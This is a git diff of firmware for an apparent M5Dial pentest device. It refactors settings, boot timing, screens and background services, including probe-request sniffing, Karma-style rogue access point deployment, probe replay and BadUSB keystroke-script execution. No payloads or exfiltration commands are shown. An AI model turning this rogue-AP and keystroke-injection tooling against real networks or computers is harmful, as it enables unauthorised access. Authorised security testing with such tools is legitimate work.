+        settingsPending = anySettingDirty();
+        LOG_E("Failed to initialize Preferences!");
         return;
     }
-    preferences.putBool("debugMode", debugMode);
-    preferences.putBool("pendingReset", true);
-    preferences.end();
     M5Dial.Display.clear();
     if (debugMode) {
         M5Dial.Display.drawString("Switching to Normal Mode", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
-        if (verboseDebug) Serial.println("Now in Normal Mode.");
+        LOG_D("Now in Normal Mode.");
     } else {
         M5Dial.Display.drawString("Switching to BadUSB Mode", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
-        if (verboseDebug) Serial.println("Now in BadUSB Mode.");
     }
     delay(1500);
     Keyboard.end();
     esp_restart();
 }
 
+// Settings store
+void loadSettings() {
+    if (!preferences.begin("settings", false)) {
+        LOG_E("Failed to initialize Preferences!");
+        // Defaults for this session only; never written back
+        debugMode.revert(true);
+        verboseDebug.revert(true);
+        return;
+    }
+    for (SettingBase* setting = settingsRegistry; setting; setting = setting->next) {
+        setting->load(preferences);
+    }
+    // Older firmware rebooted a second time on this flag; just drop it
+    if (preferences.isKey("pendingReset")) preferences.remove("pendingReset");
+    preferences.end();
+}
+
+// Writes every dirty setting in one NVS session
+void commitSettings() {
+    if (!settingsPending) return;
+    ScopedTimer flashTimer(flashWriteMetric);
+    if (!preferences.begin("settings", false)) {
+        // Back off a full delay before trying again
+        settingsChangedAt = millis();
+        return;
+    }
+    for (SettingBase* setting = settingsRegistry; setting; setting = setting->next) {
+        if (!setting->dirty) continue;
+        setting->store(preferences);
+        setting->dirty = false;
+        settingsStats.nvsWrites++;
+    }
+    preferences.end();
+    settingsPending = false;
+    settingsStats.commits++;
+    LOG_D("Settings committed (%u NVS writes this session)", (unsigned)settingsStats.nvsWrites);
+}
+
 void setup() {
     Serial.begin(115200);
+    startLogTask();
+    bootMark("serial");
     auto cfg = M5.config();
     M5Dial.begin(cfg, true, false);
+    bootMark("m5dial");
 
-    if (!preferences.begin("settings", false)) {
-        Serial.println("Failed to initialize Preferences!");
-        debugMode = true;
-        verboseDebug = true; // default if fail
-    } else {
-        debugMode = preferences.getBool("debugMode", true);
-        verboseDebug = preferences.getBool("verboseDebug", false);
-        pendingReset = preferences.getBool("pendingReset", false);
-        pendingFile = preferences.getString("pendingFile", "");
-        screenBrightness = preferences.getInt("brightness", 128);
-        preferences.end();
-    }
+    loadSettings();
+    bootMark("preferences");
 
     M5Dial.Display.setBrightness(screenBrightness);
     M5Dial.Display.setTextColor(WHITE);
     M5Dial.Display.setTextDatum(middle_center);
     M5Dial.Display.setFont(&fonts::Orbitron_Light_32);
     M5Dial.Display.setTextSize(defaultTextSize);
+    M5Dial.Display.setRotation(display_rotation);
 
     if (!SPIFFS.begin(true)) {
-        Serial.println("An Error has occurred while mounting SPIFFS");
+        LOG_E("An Error has occurred while mounting SPIFFS");
         return;
     }
+    bootMark("spiffs");
 
-    if (pendingReset) {
-        if (preferences.begin("settings", false)) {
-            preferences.remove("pendingReset");
-            preferences.end();
-        }
-        esp_restart();
+    if (debugMode) {
+        startNetTask();
+        bootMark("net_task");
     }
 
     // If in HID mode, initialize Keyboard
@@ -191,988 +997,3050 @@ void setup() {
         M5Dial.Display.drawString("BadUSB Mode", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
         Keyboard.begin();
         USB.begin();
-        delay(500);
+        bootMark("usb");
 
-        if (!pendingFile.isEmpty()) {
+        if (!pendingFile.get().isEmpty()) {
             M5Dial.Display.clear();
             M5Dial.Display.drawString("Executing Pending File...", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
-            delay(5000);
-            executeKeystrokes(pendingFile.c_str());
-            if (preferences.begin("settings", false)) {
-                preferences.remove("pendingFile");
-                preferences.end();
-            }
-            M5Dial.Display.drawString("Execution Done", M5Dial.Display.width() / 2, (M5Dial.Display.height() / 2) + 40);
-            delay(2000);
-            // After executing pending file, just return.
+            // Give the host five seconds to enumerate the keyboard; the HID
+            // service runs the script and clears pendingFile when done.
+            executeKeystrokes(pendingFile.get().c_str(), 5000);
+            keystrokes.clearPendingFile = true;
+            bootMark("setup");
             return;
         }
     } else {
-        if (verboseDebug) Serial.println("Normal Mode Enabled");
-        M5Dial.Display.drawString("Normal Mode", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
+        LOG_D("Normal Mode Enabled");
     }
 
-    // Display image if exists
-    const char* imagePath = "/logo.bmp";
-    if (SPIFFS.exists(imagePath)) {
-        Serial.println("Image file found, displaying image.");
-
-        int16_t x_center1 = (M5Dial.Display.width() - 240) / 2;
-        int16_t y_center1 = (M5Dial.Display.height() - 135) / 2;
-
-        M5Dial.Display.setRotation(display_rotation);
-        M5Dial.Display.clear();
-        M5Dial.Display.drawBmpFile(SPIFFS, imagePath, x_center1, y_center1);
-        delay(5000);
-        M5Dial.Display.clear();
+    M5Dial.Display.fillScreen(BLACK);
+    if (showSplash && (SPIFFS.exists(splashImagePath) || SPIFFS.exists(splashBitmapPath))) {
+        switchScreen(SPLASH_SCREEN);
     } else {
-        Serial.println("Image file not found, skipping image display.");
+        requestRender();
     }
+    bootMark("setup");
+}
 
-    // Load selected SSID
-    {
-        File file = SPIFFS.open("/selectedSSID.json", "r");
-        if (file) {
-            JsonDocument doc;
-            DeserializationError error = deserializeJson(doc, file);
-            if (!error) {
-                String selectedSSID = doc["selectedSSID"].as<String>();
-                if (!selectedSSID.isEmpty()) {
-                    ssid = selectedSSID;
-                    if (verboseDebug) Serial.println("Loaded selected SSID: " + ssid);
-                }
-            }
-            file.close();
-        }
+// Boot sequencer
+void bootMark(const char* name) {
+    if (bootMarkCount < maxBootMarks) {
+        bootTimeline[bootMarkCount++] = { name, (uint32_t)micros() };
     }
+}
 
-    // Load SSIDs
-    {
-        File file = SPIFFS.open("/SSID.json", "r");
-        if (file) {
-            JsonDocument doc;
-            DeserializationError error = deserializeJson(doc, file);
-            if (!error) {
-                ssidList.clear();
-                for (JsonVariant v : doc["ssids"].as<JsonArray>()) {
-                    String s = v.as<String>();
-                    ssidList.push_back(s);
-                }
-                if (debugMode && verboseDebug) {
-                    Serial.printf("Total SSIDs loaded: %d\n", ssidList.size());
-                }
-            }
-            file.close();
-        }
+// Runs on the log task
+void printBootTimeline() {
+    uint32_t previous = 0;
+    for (int i = 0; i < bootMarkCount; i++) {
+        Serial.printf("boot %-16s %8u us (+%u)\n", bootTimeline[i].name,
+                      (unsigned)bootTimeline[i].us, (unsigned)(bootTimeline[i].us - previous));
+        previous = bootTimeline[i].us;
     }
-
-    M5Dial.Display.fillScreen(BLACK);
-    drawMenu(currentIndex);
 }
 
-void loop() {
-    M5Dial.update();
-    long newPosition = M5Dial.Encoder.read();
-
-    switch (currentScreen) {
-        case MENU_SCREEN:
-        {
-            if (abs(newPosition - oldPosition) >= encoderMoveThreshold) {
-                M5Dial.Speaker.tone(8000, 20);
-                oldPosition = newPosition;
-                currentIndex = (newPosition / encoderMoveThreshold + menuItemsCount) % menuItemsCount;
-                if (currentIndex < 0) {
-                    currentIndex += menuItemsCount;
-                }
-                if (debugMode && verboseDebug) {
-                    Serial.printf("Navigating main menu, index: %d\n", currentIndex);
-                }
-                drawMenu(currentIndex);
-            }
-
-            static unsigned long pressStartTime = 0;
-            static bool isBtnAPressed = false;
-            if (M5Dial.BtnA.wasPressed()) {
-                isBtnAPressed = true;
-                pressStartTime = millis();
-            }
-            if (isBtnAPressed && M5Dial.BtnA.wasReleased()) {
-                unsigned long pressDuration = millis() - pressStartTime;
-                isBtnAPressed = false;
-                if (pressDuration < 1000) {
-                    switch (currentIndex) {
-                        case 0: // Start Portal
-                            if (debugMode && !isPortalRunning) startCaptivePortal();
-                            break;
-                        case 1: // Saved SSID
-                            if (debugMode && !ssidList.empty()) selectSSID();
-                            break;
-                        case 2: // Start Karma
-                            if (debugMode && !isKarmaRunning) startAutoKarma();
-                            break;
-                        case 3: // BadUSB
-                            currentScreen = EXECUTE_SCRIPT_SCREEN;
-                            enterExecuteScriptScreen();
-                            break;
-                        case 4: // About
-                            currentScreen = ABOUT_SCREEN;
-                            displayAboutScreen();
-                            break;
-                        case 5: // Settings
-                            currentScreen = SETTINGS_SCREEN;
-                            drawSettingsMenu(0);
-                            break;
-                    }
-                }
-            }
+void loadSelectedSSID() {
+    File file = SPIFFS.open("/selectedSSID.json", "r");
+    if (!file) return;
+    JsonDocument doc;
+    DeserializationError error = deserializeJson(doc, file);
+    if (!error) {
+        String selectedSSID = doc["selectedSSID"].as<String>();
+        if (!selectedSSID.isEmpty()) {
+            ssid = selectedSSID;
+            LOG_D("Loaded selected SSID: %s", ssid.c_str());
         }
-        break;
-
-        case PORTAL_SCREEN:
-            if (debugMode) handlePortalScreen();
-            break;
+    }
+    file.close();
+}
 
-        case KARMA_SCREEN:
-            if (debugMode) loopAutoKarma();
-            break;
+void loadSSIDList() {
+    File file = SPIFFS.open("/SSID.json", "r");
+    if (!file) return;
+    JsonDocument doc;
+    DeserializationError error = deserializeJson(doc, file);
+    if (!error) {
+        ssidList.clear();
+        for (JsonVariant v : doc["ssids"].as<JsonArray>()) {
+            const char* s = v.as<const char*>();
+            if (s) ssidList.push(s);
+        }
+        LOG_D("Total SSIDs loaded: %d", (int)ssidList.size());
+    }
+    file.close();
+}
 
-        case EXECUTE_SCRIPT_SCREEN:
-            handleExecuteScriptScreen();
+void runBootStage() {
+    switch (bootStage) {
+        case BOOT_LOAD_SELECTED_SSID:
+            loadSelectedSSID();
+            bootMark("selected_ssid");
+            bootStage = BOOT_LOAD_SSID_LIST;
             break;
-
-        case ABOUT_SCREEN:
-            if (M5Dial.BtnA.wasPressed()) {
-                currentScreen = MENU_SCREEN;
-                drawMenu(currentIndex);
-            }
+        case BOOT_LOAD_SSID_LIST:
+            loadSSIDList();
+            bootMark("ssid_list");
+            bootStage = BOOT_DONE;
+            if (debugMode) requestSerialDump(SERIAL_DUMP_BOOT_TIMELINE);
             break;
-
-        case SETTINGS_SCREEN:
-            handleSettingsScreen(newPosition);
+        case BOOT_DONE:
             break;
     }
-
-    delay(10);
 }
 
-// Drawing Menus
-void drawMenu(int index) {
-    if (index < 0 || index >= menuItemsCount) {
-        index = 0;
+// Runs the remaining stages now, for callers that need the SSID data
+void ensureBootLoaded() {
+    while (bootStage != BOOT_DONE) {
+        runBootStage();
     }
-    drawListMenu(menuItems, menuItemsCount, index, YELLOW, WHITE, YELLOW);
 }
 
-void drawListMenu(const char* items[], int itemCount, int index, uint16_t highlightColor, uint16_t textColor, uint16_t ringColor) {
-    M5Dial.Display.fillScreen(BLACK);
-    drawRing(ringColor);
-
-    const int itemHeight = 25;
-    const int numVisibleItems = 4; // show more items for clarity
-
-    for (int i = 0; i < numVisibleItems; i++) {
-        int itemIndex = (index + i - 1 + itemCount) % itemCount;
-        int yPos = (M5Dial.Display.height() / 2) + ((i - 1) * itemHeight);
-
-        if (i == 1) {
-            M5Dial.Display.setTextColor(highlightColor);
-        } else {
-            M5Dial.Display.setTextColor(textColor);
-        }
-
-        String displayText = String(items[itemIndex]);
-        if (M5Dial.Display.textWidth(displayText) > M5Dial.Display.width() - 20) {
-            displayText = displayText.substring(0, (M5Dial.Display.width() - 20) / M5Dial.Display.fontHeight()) + "...";
-        }
-
-        M5Dial.Display.setTextSize(defaultTextSize);
-        M5Dial.Display.drawString(displayText, M5Dial.Display.width() / 2, yPos);
-    }
+bool bootServiceEnabled() {
+    return bootStage != BOOT_DONE;
 }
 
-void drawRing(uint16_t color) {
-    int16_t centerX = M5Dial.Display.width() / 2;
-    int16_t centerY = M5Dial.Display.height() / 2;
-    int16_t radius = min(M5Dial.Display.width(), M5Dial.Display.height()) / 2;
+bool runBootService(uint32_t deadlineUs) {
+    runBootStage();
+    return bootStage != BOOT_DONE;
+}
 
-    for (int16_t r = radius; r > radius - 10; r--) {
-        M5Dial.Display.drawCircle(centerX, centerY, r, color);
-    }
+// Splash: optional logo, skipped by any input or after splashDurationMs
+void enterSplashScreen() {
+    splashStartedAt = millis();
+    splashStartPosition = M5Dial.Encoder.read();
 }
 
-// Utility function to center text on the display with a vertical offset
-void centerText(const String &text, int16_t yOffset) {
-    int16_t textWidth = M5Dial.Display.textWidth(text);
-    int16_t x = (M5Dial.Display.width() - textWidth) / 2;
-    int16_t y = (M5Dial.Display.height() / 2) + yOffset;
-    M5Dial.Display.setCursor(x, y);
-    M5Dial.Display.println(text);
+void splashTick(long newPosition) {
+    bool skipped = M5Dial.BtnA.wasPressed() || abs(newPosition - splashStartPosition) >= encoderMoveThreshold;
+    if (skipped || millis() - splashStartedAt >= splashDurationMs) {
+        switchScreen(MENU_SCREEN);
+    }
 }
 
-// About Screen
-void displayAboutScreen() {
+// Prefers the pre-converted .565 image; the BMP is decoded only as a fallback
+void drawSplashScreen() {
     M5Dial.Display.clear();
-    drawRing(TFT_ORANGE);
-
-    M5Dial.Display.setTextSize(defaultTextSize);
-    M5Dial.Display.setTextColor(TFT_WHITE);
-
-    int16_t yPos = 40;
-    int16_t textWidth = M5Dial.Display.textWidth("Semi-Evil-M5Dial");
-    int16_t xPos = (M5Dial.Display.width() - textWidth) / 2;
-    M5Dial.Display.setCursor(xPos, yPos);
-    M5Dial.Display.println("Semi-Evil-M5Dial");
-
-    yPos += 30;
-    textWidth = M5Dial.Display.textWidth("Version: 1.3.0");
-    xPos = (M5Dial.Display.width() - textWidth) / 2;
-    M5Dial.Display.setCursor(xPos, yPos);
-    M5Dial.Display.println("Version: 1.3.0");
-
-    yPos += 30;
-    textWidth = M5Dial.Display.textWidth("By: 7h30th3r0n3");
-    xPos = (M5Dial.Display.width() - textWidth) / 2;
-    M5Dial.Display.setCursor(xPos, yPos);
-    M5Dial.Display.println("By: 7h30th3r0n3");
-
-    yPos += 30;
-    textWidth = M5Dial.Display.textWidth("& dagnazty");
-    xPos = (M5Dial.Display.width() - textWidth) / 2;
-    M5Dial.Display.setCursor(xPos, yPos);
-    M5Dial.Display.println("& dagnazty");
-
-    yPos = M5Dial.Display.height() - 60;
-    M5Dial.Display.setTextSize(0.4);
-    textWidth = M5Dial.Display.textWidth("Press to return to menu");
-    xPos = (M5Dial.Display.width() - textWidth) / 2;
-    M5Dial.Display.setCursor(xPos, yPos);
-    M5Dial.Display.println("Press to return to menu");
+    if (!drawRgb565File(splashImagePath)) {
+        int16_t x = (M5Dial.Display.width() - 240) / 2;
+        int16_t y = (M5Dial.Display.height() - 135) / 2;
+        M5Dial.Display.drawBmpFile(SPIFFS, splashBitmapPath, x, y);
+    }
+    bootMark("splash");
 }
 
-// SSID Handling
-void saveSSID(const String& newSSID) {
-    for (const auto& s : ssidList) {
-        if (s == newSSID) return;
-    }
+// .565 images (lib/core/src/rgb565_image.h). Raw images are read straight
+// into the DMA band buffers and RLE images are expanded into them from a
+// small read buffer.
+const int rgb565BandLines = 8;
 
-    ssidList.push_back(newSSID);
-    if (ssidList.size() > maxSSIDs) {
-        ssidList.erase(ssidList.begin());
-        if (debugMode && verboseDebug) {
-            Serial.println("Removed oldest SSID to maintain the limit.");
-        }
-    }
+// Draws a .565 image centered on the display; false if it is missing or bad
+bool drawRgb565File(const char* path) {
+    File file = SPIFFS.open(path, "r");
+    if (!file) return false;
 
-    File file = SPIFFS.open("/SSID.json", "w");
-    if (!file) {
-        if (debugMode && verboseDebug) {
-            Serial.println("Failed to open SSID.json for writing");
-        }
-        return;
+    Rgb565Header header;
+    if (file.read((uint8_t*)&header, sizeof(header)) != sizeof(header) || !rgb565HeaderValid(header)) {
+        file.close();
+        return false;
     }
 
-    JsonDocument doc;
-    JsonArray array = doc["ssids"].to<JsonArray>();
-    for (const auto& s : ssidList) {
-        array.add(s);
+    // Two bands: one is decoded while the previous one is still being sent
+    size_t bandPixels = (size_t)header.width * rgb565BandLines;
+    uint16_t* bands = (uint16_t*)heap_caps_malloc(bandPixels * 2 * sizeof(uint16_t), MALLOC_CAP_DMA);
+    if (!bands) {
+        file.close();
+        return false;
     }
 
-    if (serializeJson(doc, file) == 0 && debugMode && verboseDebug) {
-        Serial.println("Failed to write to file");
+    int16_t x = (M5Dial.Display.width() - header.width) / 2;
+    int16_t y = (M5Dial.Display.height() - header.height) / 2;
+    Rgb565Decoder<File> decoder(file);
+    bool ok = true;
+
+    M5Dial.Display.startWrite();
+    for (int row = 0, band = 0; row < header.height && ok; row += rgb565BandLines, band ^= 1) {
+        int lines = min(rgb565BandLines, header.height - row);
+        size_t count = (size_t)header.width * lines;
+        uint16_t* out = bands + band * bandPixels;
+        // pushImageDMA waits for the transfer before it, so the transfer
+        // that last used this band has finished by the time we overwrite it
+        if (header.flags & rgb565FlagRLE) {
+            ok = decoder.decodeRLE(out, count);
+        } else {
+            ok = file.read((uint8_t*)out, count * sizeof(uint16_t)) == count * sizeof(uint16_t);
+        }
+        if (ok) M5Dial.Display.pushImageDMA(x, y + row, header.width, lines, out);
     }
+    M5Dial.Display.waitDMA();
+    M5Dial.Display.endWrite();
 
+    free(bands);
     file.close();
-    if (debugMode && verboseDebug) {
-        Serial.println("New SSID saved and list updated.");
-    }
+    return ok;
 }
 
-void saveSelectedSSID(const String& selectedSSID) {
-    File file = SPIFFS.open("/selectedSSID.json", "w");
-    if (!file) {
-        if (debugMode && verboseDebug) {
-            Serial.println("Failed to open selectedSSID.json for writing");
+// Screens
+void menuTick(long newPosition) {
+    if (abs(newPosition - oldPosition) >= encoderMoveThreshold) {
+        M5Dial.Speaker.tone(8000, 20);
+        oldPosition = newPosition;
+        currentIndex = (newPosition / encoderMoveThreshold + menuItemsCount) % menuItemsCount;
+        if (currentIndex < 0) {
+            currentIndex += menuItemsCount;
         }
-        return;
+        LOG_D("Navigating main menu, index: %d", currentIndex);
+        requestRender();
     }
-    JsonDocument doc;
-    doc["selectedSSID"] = selectedSSID;
-    if (serializeJson(doc, file) == 0 && debugMode && verboseDebug) {
-        Serial.println("Failed to write selected SSID");
+
+    static unsigned long pressStartTime = 0;
+    static bool isBtnAPressed = false;
+    if (M5Dial.BtnA.wasPressed()) {
+        isBtnAPressed = true;
+        pressStartTime = millis();
+    }
+    if (isBtnAPressed && M5Dial.BtnA.wasReleased()) {
+        unsigned long pressDuration = millis() - pressStartTime;
+        isBtnAPressed = false;
+        if (pressDuration < 1000) {
+            switch (currentIndex) {
+                case 0: // Start Portal
+                    if (debugMode && !readNetStatus().portalRunning) startCaptivePortal();
+                    break;
+                case 1: // Saved SSID
+                    ensureBootLoaded();
+                    if (debugMode && !ssidList.empty()) selectSSID();
+                    break;
+                case 2: // Start Karma
+                    if (debugMode && !isKarmaRunning) startAutoKarma();
+                    break;
+                case 3: // BadUSB
+                    switchScreen(EXECUTE_SCRIPT_SCREEN);
+                    break;
+                case 4: // About
+                    switchScreen(ABOUT_SCREEN);
+                    break;
+                case 5: // Settings
+                    switchScreen(SETTINGS_SCREEN);
+                    break;
+            }
+        }
+    }
+}
+
+void menuRender() {
+    drawMenu(currentIndex);
+}
+
+// Short press returns to the menu; holding the button opens diagnostics
+void aboutTick(long newPosition) {
+    static bool isBtnAPressed = false;
+
+    if (M5Dial.BtnA.wasPressed()) {
+        isBtnAPressed = true;
+    }
+
+    if (isBtnAPressed && M5Dial.BtnA.pressedFor(1000)) {
+        isBtnAPressed = false;
+        switchScreen(DIAGNOSTICS_SCREEN);
+        return;
+    }
+
+    if (isBtnAPressed && M5Dial.BtnA.wasReleased()) {
+        isBtnAPressed = false;
+        switchScreen(MENU_SCREEN);
+    }
+}
+
+void enterDiagnosticsScreen() {
+    diagnosticsPage = 0;
+    diagnosticsOldPosition = -999;
+    diagnosticsRateAt = millis();
+    diagnosticsProbeTotal = readNetStatus().probesSeen;
+    diagnosticsHttpTotal = httpRequestsMetric.get();
+    probesPerSecond = httpPerSecond = 0;
+}
+
+void diagnosticsTick(long newPosition) {
+    if (diagnosticsOldPosition == -999) diagnosticsOldPosition = newPosition;
+    if (abs(newPosition - diagnosticsOldPosition) >= encoderMoveThreshold) {
+        diagnosticsOldPosition = newPosition;
+        diagnosticsPage ^= 1;
+        requestRender();
+    }
+
+    unsigned long elapsed = millis() - diagnosticsRateAt;
+    if (elapsed >= 1000) {
+        uint32_t probes = readNetStatus().probesSeen;
+        uint32_t requests = httpRequestsMetric.get();
+        probesPerSecond = (probes - diagnosticsProbeTotal) * 1000 / elapsed;
+        httpPerSecond = (requests - diagnosticsHttpTotal) * 1000 / elapsed;
+        diagnosticsProbeTotal = probes;
+        diagnosticsHttpTotal = requests;
+        diagnosticsRateAt = millis();
+        if (diagnosticsPage == 1) requestRender();
+    }
+    if (diagnosticsPage == 0 && heapSampleCount != diagnosticsShownSample) {
+        requestRender();
+    }
+    if (M5Dial.BtnA.wasPressed()) {
+        switchScreen(MENU_SCREEN);
+    }
+}
+
+void portalTick(long newPosition) {
+    handlePortalScreen();
+}
+
+void karmaTick(long newPosition) {
+    loopAutoKarma();
+}
+
+void karmaRender() {
+    if (isAPDeploying) {
+        displayAPStatus(karmaAPStartTime, karmaAPDuration());
+    } else {
+        displayWaitingForProbe();
+    }
+}
+
+void scriptTick(long newPosition) {
+    handleExecuteScriptScreen();
+}
+
+void settingsEnter() {
+    settingsIndex = 0;
+    settingsOldPosition = M5Dial.Encoder.read();
+    adjustingBrightness = false;
+}
+
+void settingsRender() {
+    drawSettingsMenu(settingsIndex);
+}
+
+Screen screens[SCREEN_COUNT] = {
+    // name         enter                     tick                    render                exit
+    { "menu",        nullptr,                   menuTick,               menuRender,           nullptr },           // MENU_SCREEN
+    { "portal",      nullptr,                   portalTick,             drawPortalScreen,     stopCaptivePortal }, // PORTAL_SCREEN
+    { "karma",       nullptr,                   karmaTick,              karmaRender,          stopAutoKarma },     // KARMA_SCREEN
+    { "script",      enterExecuteScriptScreen,  scriptTick,             drawScriptScreen,     nullptr },           // EXECUTE_SCRIPT_SCREEN
+    { "about",       nullptr,                   aboutTick,              displayAboutScreen,   nullptr },           // ABOUT_SCREEN
+    { "settings",    settingsEnter,             handleSettingsScreen,   settingsRender,       nullptr },           // SETTINGS_SCREEN
+    { "ssid_select", enterSSIDSelectScreen,     handleSSIDSelectScreen, drawSSIDSelectScreen, nullptr },           // SSID_SELECT_SCREEN
+    { "diagnostics", enterDiagnosticsScreen,    diagnosticsTick,        displayDiagnosticsScreen, nullptr },       // DIAGNOSTICS_SCREEN
+    { "splash",      enterSplashScreen,         splashTick,             drawSplashScreen,     nullptr },           // SPLASH_SCREEN
+};
+
+void switchScreen(ScreenState next) {
+    if (screens[currentScreen].exit) screens[currentScreen].exit();
+    currentScreen = next;
+    if (screens[currentScreen].enter) screens[currentScreen].enter();
+    requestRender();
+}
+
+void requestRender() {
+    screenNeedsRender = true;
+}
+
+// Services
+bool portalServicesEnabled() {
+    return isPortalRunning || netStatus.apUp;
+}
+
+bool radioServiceEnabled() {
+    return netStatus.karmaActive;
+}
+
+bool hopServiceEnabled() {
+    return netStatus.karmaActive && !netStatus.apUp && !replay.active;
+}
+
+bool replayServiceEnabled() {
+    return replay.active;
+}
+
+bool hidServiceEnabled() {
+    return keystrokes.active;
+}
+
+bool pcapServiceEnabled() {
+    return pcapRecording.load(std::memory_order_relaxed) || pcapStopRequested.load(std::memory_order_relaxed);
+}
+
+bool runPcapService(uint32_t deadlineUs) {
+    return pcapFlush();
+}
+
+bool runDNSService(uint32_t deadlineUs) {
+    return dnsProcessPending(deadlineUs) > 0;
+}
+
+bool runHTTPService(uint32_t deadlineUs) {
+    server.handleClient();
+    return false;
+}
+
+// Drains probes queued by the sniffer callback and forwards new SSIDs to the
+// UI core, which owns the SSID list and the Karma state.
+bool runRadioService(uint32_t deadlineUs) {
+    bool didWork = false;
+    ProbeRecord probe;
+    while ((int32_t)(micros() - deadlineUs) < 0 && probeQueue.pop(probe)) {
+        netStatus.probesSeen++;
+        if (probe.channel >= 1 && probe.channel <= hopChannelCount) {
+            hopper.noteProbe(probe.channel);
+            lastProbeChannel = probe.channel;
+        }
+        uint16_t deviceTotal = deviceTable.noteProbe(probe, millis());
+        if (probe.ssid[0]) {
+            SSIDStats* stats = findSSIDStats(probe.ssid);
+            if (stats) stats->probes++;
+        }
+        // Whitelisted and out-of-scope SSIDs are never saved or deployed
+        if (probe.forward && decideScope(probe.ssid) == SCOPE_ALLOWED) {
+            if (replay.active) replay.state.noteForward(probe.ssid, replayElapsedMs());
+            NetMessage msg = {};
+            msg.type = NET_EVENT_PROBE;
+            memcpy(msg.ssid, probe.ssid, sizeof(msg.ssid));
+            msg.devices = deviceTotal;
+            netEventQueue.push(msg);
+        }
+        didWork = true;
+    }
+    return didWork;
+}
+
+void hopToChannel(uint8_t channel) {
+    if (esp_wifi_set_channel(channel, WIFI_SECOND_CHAN_NONE) != ESP_OK) return;
+    hopper.start(channel, millis());
+    netStatus.channel = channel;
+    publishNetStatus();
+}
+
+bool runHopService(uint32_t deadlineUs) {
+    uint8_t next;
+    if (!hopper.due(millis(), next)) return false;
+    hopToChannel(next);
+    return true;
+}
+
+// Probe replay
+bool startReplay() {
+    File file = SPIFFS.open(replayPath, "r");
+    if (!file || !replay.state.begin(file, replay.speed, sniffer.snapshot(),
+                                     probeQueue.dropped.load(std::memory_order_relaxed))) {
+        LOG_W("Replay: /replay.pcap missing or not a little-endian 802.11 pcap");
+        if (file) file.close();
+        return false;
+    }
+
+    replay.file = file;
+    replay.startMs = millis();
+    replay.active = true;
+    LOG_D("Replay started at speed %u", (unsigned)replay.speed);
+    return true;
+}
+
+uint32_t replayElapsedMs() {
+    return millis() - replay.startMs;
+}
+
+// Called by netDeployAP() so the report can show time-to-deploy
+void noteReplayDeploy(const char* ssid) {
+    if (replay.active) replay.state.noteDeploy(ssid, replayElapsedMs());
+}
+
+// Builds a promiscuous packet from the replay's current record and hands it
+// to the sniffer
+void replayFrame() {
+    const uint8_t* frame;
+    size_t length;
+    uint8_t channel;
+    int8_t rssi;
+    if (!replay.state.decode(frame, length, channel, rssi)) return;
+
+    wifi_promiscuous_pkt_t* packet = (wifi_promiscuous_pkt_t*)replayPacket;
+    memset(&packet->rx_ctrl, 0, sizeof(packet->rx_ctrl));
+    packet->rx_ctrl.channel = channel;
+    packet->rx_ctrl.rssi = rssi;
+    memcpy(packet->payload, frame, length);
+    packet->rx_ctrl.sig_len = length + 4;
+    replay.state.noteFrame(frame, length, replayElapsedMs());
+
+    autoKarmaPacketSniffer(packet, WIFI_PKT_MGMT);
+    replay.state.noteQueueDepth(probeQueue.size());
+}
+
+void writeReplayFileChunk(void* context, const char* data, size_t length) {
+    if (length) ((File*)context)->write((const uint8_t*)data, length);
+}
+
+void writeReplayReport() {
+    const ProbeReplay& state = replay.state;
+    SnifferStatsSnapshot after = sniffer.snapshot();
+    uint32_t queueDrops = probeQueue.dropped.load(std::memory_order_relaxed);
+
+    File file = SPIFFS.open(replayReportPath, "w");
+    if (file) {
+        JsonWriter json(writeReplayFileChunk, &file);
+        state.writeReport(json, replayElapsedMs(), after, queueDrops);
+        json.end();
+        file.close();
+    }
+    // The full report can run to a few KB, more than the log ring holds at once
+    uint32_t malformed = after.malformed - state.snifferBefore.malformed;
+    uint32_t repeats = after.repeats - state.snifferBefore.repeats;
+    LOG_I("Replay: %u frames, %u probes, %u unique SSIDs, %u dedup hits of %u",
+          (unsigned)state.frames, (unsigned)state.probes, (unsigned)state.uniqueSSIDs(),
+          (unsigned)repeats, (unsigned)(state.probes - malformed));
+    LOG_I("Replay: queue depth %u, %u queue drops; report in %s",
+          (unsigned)state.maxQueueDepth, (unsigned)(queueDrops - state.queueDropsBefore), replayReportPath);
+}
+
+void finishReplay() {
+    if (!replay.active) return;
+    replay.file.close();
+    writeReplayReport();
+    replay.active = false;
+}
+
+bool runReplayService(uint32_t deadlineUs) {
+    bool didWork = false;
+    while ((int32_t)(micros() - deadlineUs) < 0) {
+        ReplayStep step = replay.state.next(replay.file, replayElapsedMs());
+        if (step == REPLAY_WAIT) break;
+        if (step == REPLAY_END) {
+            finishReplay();
+            return true;
+        }
+        replayFrame();
+        didWork = true;
+    }
+    return didWork;
+}
+
+// Station changes publish immediately; this only catches counter drift
+bool runNetStatusService(uint32_t deadlineUs) {
+    uint32_t probesDropped = probeQueue.dropped.load(std::memory_order_relaxed);
+    if (netStatus.probesDropped != probesDropped) {
+        netStatus.probesDropped = probesDropped;
+        publishNetStatus();
+    }
+    return false;
+}
+
+// Maps DHCP leases back to station MACs
+void refreshStationIPs() {
+    wifi_sta_list_t wifiList;
+    esp_netif_sta_list_t netifList;
+    if (esp_wifi_ap_get_sta_list(&wifiList) != ESP_OK) return;
+    if (esp_netif_get_sta_list(&wifiList, &netifList) != ESP_OK) return;
+
+    for (int i = 0; i < netifList.num; i++) {
+        for (int j = 0; j < maxStations; j++) {
+            if (stations[j].inUse && memcmp(stations[j].mac, netifList.sta[i].mac, 6) == 0) {
+                stations[j].ip = netifList.sta[i].ip.addr;
+                stationByHost[stations[j].ip >> 24] = j;
+            }
+        }
+    }
+}
+
+bool runStationService(uint32_t deadlineUs) {
+    bool changed = false;
+    StationEvent event;
+    while (stationEventQueue.pop(event)) {
+        if (event.type == STATION_IP_ASSIGNED) {
+            refreshStationIPs();
+            changed = true;
+            continue;
+        }
+
+        Station* station = nullptr;
+        Station* freeSlot = nullptr;
+        Station* oldestIdle = nullptr;
+        for (int i = 0; i < maxStations; i++) {
+            Station& s = stations[i];
+            if (s.inUse && memcmp(s.mac, event.mac, 6) == 0) {
+                station = &s;
+                break;
+            }
+            if (!s.inUse && !freeSlot) freeSlot = &s;
+            if (s.inUse && !s.connected && (!oldestIdle || s.lastActivity < oldestIdle->lastActivity)) {
+                oldestIdle = &s;
+            }
+        }
+
+        if (event.type == STATION_CONNECTED) {
+            if (!station) station = freeSlot ? freeSlot : oldestIdle;
+            if (!station) continue;
